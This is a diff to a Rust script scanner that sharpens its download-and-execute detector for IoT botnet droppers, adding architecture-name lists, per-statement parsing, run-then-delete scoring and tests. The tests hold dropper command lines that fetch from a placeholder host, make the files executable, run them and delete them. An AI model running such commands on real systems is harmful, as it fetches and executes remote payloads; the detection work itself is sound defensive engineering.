@@ -565,12 +565,51 @@ fn excerpt(line: &str) -> String {
     format!("`{}…`", &line[..end])
 }
 
+/// CPU architecture names that IoT droppers put in the names of the builds they
+/// fetch, one per architecture (`bins/mirai.arm7`, `x86_64`, `mpsl`, …).
+const ARCH_NAMES: &[&str] = &[
+    "arm", "arm4", "arm5", "arm6", "arm7", "armv4l", "armv5l", "armv6l", "armv7l", "aarch64",
+    "arm64", "mips", "mipsel", "mpsl", "mips64", "m68k", "ppc", "powerpc", "ppc440", "sh4",
+    "sparc", "spc", "x86", "x86_64", "x64", "i386", "i486", "i586", "i686",
+];
+
+/// The statements of a logical line: split at `;`, `&&`, `||` and `&` (quotes are
+/// not parsed: droppers do not hide separators in strings, and a split inside a
+/// string only makes a statement look less like a command).
+fn statements(line: &str) -> impl Iterator<Item = &str> {
+    line.split([';', '&', '|'])
+        .map(str::trim)
+        .filter(|statement| !statement.is_empty())
+}
+
+/// Directories droppers write to and run from.
+const DROP_DIRS: [&str; 4] = ["./", "/tmp/", "/var/tmp/", "/dev/shm/"];
+
+/// The file a statement runs from the current or a temporary directory (`./x`,
+/// `/tmp/x`, `sh /tmp/x`), if it does; with `fetched_here` (the line also
+/// downloads), a bare `sh x` counts too.
+fn runs_dropped(statement: &str, fetched_here: bool) -> Option<&str> {
+    let statement = statement.strip_prefix("nohup ").unwrap_or(statement).trim();
+    for dir in DROP_DIRS {
+        if let Some(rest) = statement.strip_prefix(dir) {
+            return rest.split_whitespace().next().filter(|name| !name.is_empty());
+        }
+    }
+    let (name, first) = command(statement);
+    let dropped = DROP_DIRS.iter().any(|dir| first.starts_with(dir))
+        || (fetched_here && !first.is_empty() && !first.starts_with('-'));
+    (matches!(name, "sh" | "bash") && dropped).then(|| first.trim_start_matches("./"))
+}
+
 fn download_exec(lines: &[String]) -> Option<Reason> {
     let mut what = Vec::new();
     let mut score = 0;
     let mut fetches = 0usize;
     let mut from_ip = false;
     let (mut chmod, mut run_dropped) = (false, false);
+    // Files run and then deleted by the same line (`./x; rm -rf x`).
+    let mut run_then_deleted: BTreeSet<String> = BTreeSet::new();
+    let mut arches: BTreeSet<&str> = BTreeSet::new();
     for line in lines {
         let fetch = any_word(line, FETCHERS).is_some()
             || (line.contains("urlopen(") || line.contains("requests.get("));
@@ -601,13 +640,30 @@ fn download_exec(lines: &[String]) -> Option<Reason> {
         {
             chmod = true;
         }
-        let (name, _) = command(line);
-        if ["/tmp/", "/var/tmp/", "/dev/shm/", "./"]
-            .iter()
-            .any(|dir| line.starts_with(dir) || line.starts_with(&format!("nohup {dir}")))
-            || (matches!(name, "sh" | "bash") && line.contains("/tmp/"))
-        {
-            run_dropped = true;
+        // Statement by statement: `cd /tmp || cd /var/run; wget …; chmod +x x; ./x`
+        // runs the drop in the middle of the line.
+        let mut ran: Vec<&str> = Vec::new();
+        for statement in statements(line) {
+            if let Some(name) = runs_dropped(statement, fetch) {
+                run_dropped = true;
+                ran.push(name);
+            } else if command(statement).0 == "rm" {
+                for name in &ran {
+                    if has_word(statement, name) {
+                        run_then_deleted.insert((*name).to_owned());
+                    }
+                }
+            }
+        }
+        // Architecture names in what it fetches, or a list of builds in one
+        // assignment (`bins="m.arm m.mips m.x86"`); not `arch=x86_64` lines spread
+        // over a `case`, as installers pick their one download.
+        let named: BTreeSet<&str> = line
+            .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
+            .filter_map(|word| ARCH_NAMES.iter().copied().find(|arch| *arch == word))
+            .collect();
+        if fetch || (line.contains('=') && named.len() >= 3) {
+            arches.extend(named);
         }
     }
     if fetches > 0 && chmod && run_dropped {
@@ -624,7 +680,19 @@ fn download_exec(lines: &[String]) -> Option<Reason> {
         score += 10;
         what.push(format!("{fetches} downloads (one per CPU architecture?)"));
     }
-    report(&DOWNLOAD_EXEC, score.min(90), what)
+    // One file run and removed is what an installer does with its temporary copy;
+    // several are a dropper trying its builds until one runs.
+    if score > 0 && run_then_deleted.len() >= 2 {
+        score += 20;
+        let names: Vec<&str> = run_then_deleted.iter().take(3).map(String::as_str).collect();
+        what.push(format!("deletes what it ran ({})", names.join(", ")));
+    }
+    if score > 0 && arches.len() >= 3 {
+        score += 30;
+        let names: Vec<&str> = arches.iter().copied().collect();
+        what.push(format!("builds for {} CPU architectures ({})", arches.len(), names.join(", ")));
+    }
+    report(&DOWNLOAD_EXEC, score.min(100), what)
 }
 
 fn reverse_shell(lines: &[String]) -> Option<Reason> {
@@ -975,6 +1043,37 @@ mod tests {
                     "./x86".into(),
                 ],
                 &[("script.download_exec", 70)],
+            ),
+            (
+                "bins.sh dropper: fetch, run and delete each build",
+                ["ntpd", "sshd", "openssh", "bash", "tftp"]
+                    .iter()
+                    .map(|name| {
+                        format!(
+                            "cd /tmp || cd /var/run || cd /; wget http://{host}/{name}; chmod +x {name}; ./{name}; rm -rf {name}"
+                        )
+                    })
+                    .collect(),
+                &[("script.download_exec", 100)],
+            ),
+            (
+                "multi-architecture loop",
+                vec![
+                    "server=\"dl.example.invalid\"".into(),
+                    "bins=\"m.arm m.arm7 m.mips m.mpsl m.x86\"".into(),
+                    "for b in $bins; do".into(),
+                    "wget http://$server/$b -O helper; chmod 777 helper; ./helper".into(),
+                    "done".into(),
+                ],
+                &[("script.download_exec", 80)],
+            ),
+            (
+                "installer runs and removes one temporary copy",
+                vec![
+                    "curl -fsSLo /tmp/setup https://example.invalid/setup".into(),
+                    "chmod +x /tmp/setup && /tmp/setup --yes && rm -f /tmp/setup".into(),
+                ],
+                &[("script.download_exec", 50)],
             ),
             (
                 "bash reverse shell",
